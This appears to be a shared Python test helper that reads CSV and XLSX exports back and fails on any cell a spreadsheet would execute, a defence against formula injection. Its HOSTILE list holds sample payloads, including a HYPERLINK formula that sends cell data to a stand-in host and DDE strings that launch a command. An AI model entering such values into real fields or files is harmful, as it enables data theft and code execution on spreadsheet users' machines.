"""Reading an export back the way a spreadsheet program would, and failing on any cell it
would execute. Shared by the export tests of every app."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

#: Values a hostile editor or organizer might type into a name, title or address.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_safe_csv(body: bytes, expect: list[str] = ()) -> list[str]:
    """No cell starts with a formula character (numbers aside); each of ``expect`` is there,
    neutralised with a leading quote."""
    cells = csv_cells(body)
    live = [c for c in cells if c.startswith(DANGEROUS) and not _is_number(c)]
    assert live == [], f"live formula cells in CSV: {live!r}"
    for value in expect:
        assert any(value in c for c in cells), f"{value!r} missing from the CSV"
    return cells


def assert_safe_xlsx(body: bytes, expect: list[str] = ()) -> list:
    workbook = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], f"formula cells in XLSX: {formulas!r}"
    live = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(DANGEROUS)]
    assert live == [], f"text cells a spreadsheet would execute: {live!r}"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for value in expect:
        value = value.replace("\r", "\n")  # XML keeps no carriage return
        assert any(value in t for t in texts), f"{value!r} missing from the XLSX"
    return cells
